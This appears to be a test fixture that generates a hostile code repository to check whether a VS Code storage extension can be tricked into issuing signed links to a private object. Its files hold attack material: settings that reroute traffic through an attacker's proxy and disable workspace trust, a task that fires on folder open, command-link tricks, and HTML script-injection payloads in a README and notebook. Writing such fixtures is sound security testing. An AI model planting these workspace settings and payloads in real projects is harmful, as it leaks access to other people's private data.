// A repository that wants a link to somebody's private object: everything that a folder can bring into the editor.
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { scratchFolder } from '../../support/scratch.mjs';

export interface HostileRepository {
  readonly folder: string;
  /** A `.code-workspace` with the folder and addresses of our scheme as folders. */
  readonly workspace: string;
}

/** What it guesses: one connection, and a name or two. */
export interface Guess {
  readonly space: string;
  readonly key: string;
  /** Public, as it stands in every link that its owner hands out. */
  readonly accessKeyId: string;
  /** A proxy of its own, to which all requests should go. */
  readonly proxy: string;
}

export async function makeHostileRepository(guess: Guess): Promise<HostileRepository> {
  const folder = join(scratchFolder('hostile'), 'nice-project');
  const workspace = join(folder, 'nice.code-workspace');
  const files: Readonly<Record<string, string | object>> = {
    '.vscode/settings.json': settings(guess),
    '.vscode/tasks.json': tasks(guess),
    '.vscode/launch.json': launch,
    '.vscode/extensions.json': { recommendations: ['spaceport.spaceport'] },
    '.vscode/keybindings.json': [{ key: 'a', command: 'spaceport.copySignedUrl', args: target(guess) }],
    'nice.code-workspace': {
      folders: [
        { path: '.' },
        { uri: `spaceport://any/${guess.space}` },
        { uri: `spaceport:/${guess.space}` },
      ],
      // A workspace may choose the host: this one runs us in the browser's.
      settings: { ...settings(guess), 'remote.extensionKind': { 'spaceport.spaceport': ['web'] } },
      tasks: tasks(guess),
      launch,
    },
    'README.md': page(guess),
    'links.md': signedLinks(guess),
    LICENSE: 'Anything goes.',
    '.env': `SPACES_KEY=${guess.accessKeyId}\nSPACES_SECRET=guessed\nSPACES_ENDPOINT=${guess.proxy}\n`,
    'notes.ipynb': notebook(guess),
  };
  await mkdir(join(folder, '.vscode'), { recursive: true });
  for (const [name, content] of Object.entries(files))
    await writeFile(
      join(folder, name),
      typeof content === 'string' ? content : JSON.stringify(content, null, 2),
    );
  return { folder, workspace };
}

const target = ({ space, key }: Guess) => ({ space, key, expiresIn: '7 days' });

function commandLink(guess: Guess): string {
  return `command:spaceport.copySignedUrl?${encodeURIComponent(JSON.stringify([target(guess)]))}`;
}

/** Settings that we have not, those that decide how requests leave, and those that would let tasks start. */
function settings({ proxy }: Guess): object {
  return {
    'spaceport.endpoint': proxy,
    'spaceport.connections': [{ name: 'Mine', endpoint: proxy }],
    'spaceport.upload.shell': 'cmd',
    'http.proxy': proxy,
    'http.proxySupport': 'override',
    'http.proxyStrictSSL': false,
    'http.noProxy': [],
    'extensions.supportUntrustedWorkspaces': { 'spaceport.spaceport': { supported: true } },
    'security.workspace.trust.enabled': false,
    'task.allowAutomaticTasks': 'on',
  };
}

/** One that starts with the folder and one to be picked; each wants the command to run for its input's sake. */
function tasks(guess: Guess): object {
  const task = { type: 'shell', command: 'echo', args: ['$' + '{input:link}'], problemMatcher: [] };
  return {
    version: '2.0.0',
    tasks: [
      { ...task, label: 'prepare', runOptions: { runOn: 'folderOpen' } },
      { ...task, label: 'build', group: { kind: 'build', isDefault: true } },
    ],
    inputs: [{ id: 'link', type: 'command', command: 'spaceport.copySignedUrl', args: target(guess) }],
  };
}

const launch = {
  version: '0.2.0',
  configurations: [
    {
      name: 'Start',
      type: 'node',
      request: 'launch',
      program: '$' + '{command:spaceport.copySignedUrlQuick}',
      preLaunchTask: 'build',
    },
  ],
};

function links(guess: Guess): string {
  const script = 'require("vscode").commands.executeCommand("spaceport.copySignedUrl")';
  return [
    `<a href="${commandLink(guess)}">by HTML</a>`,
    `<a href="vscode://spaceport.spaceport/copySignedUrl?key=${guess.key}">by address</a>`,
    `<img src="x" onerror='${script}'>`,
    `<script>${script}</script>`,
  ].join('\n');
}

/** What looks like the person's own links: one that works, one that has ended, and more than anybody reads. */
function signedLinks({ space, key, accessKeyId }: Guess): string {
  const link = (at: Date, name: string) => {
    const time = `${at.toISOString().slice(0, 19).replace(/[-:]/g, '')}Z`;
    const credential = encodeURIComponent(`${accessKeyId}/${time.slice(0, 8)}/nyc3/s3/aws4_request`);
    const signed = `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=${credential}&X-Amz-Date=${time}`;
    const end = `&X-Amz-Expires=604800&X-Amz-Signature=${'0a'.repeat(32)}&X-Amz-SignedHeaders=host`;
    return `https://${space}.nyc3.digitaloceanspaces.com/${name}?${signed}${end}`;
  };
  const now = new Date();
  const many = Array.from({ length: 300 }, (_, index) => link(now, `${key}${index}`));
  return [link(now, key), link(new Date(0), key), ...many].join('\n\n');
}

function page(guess: Guess): string {
  return [
    '# A nice project',
    `[by command](${commandLink(guess)})`,
    `[by scheme](spaceport://any/${guess.space}/${guess.key})`,
    links(guess),
    '[the license](LICENSE)',
  ].join('\n\n');
}

function notebook(guess: Guess): object {
  const output = { output_type: 'display_data', data: { 'text/html': [links(guess)] }, metadata: {} };
  return {
    cells: [
      { cell_type: 'markdown', metadata: {}, source: [page(guess)] },
      { cell_type: 'code', execution_count: 1, metadata: {}, outputs: [output], source: ['1'] },
    ],
    metadata: {},
    nbformat: 4,
    nbformat_minor: 5,
  };
}
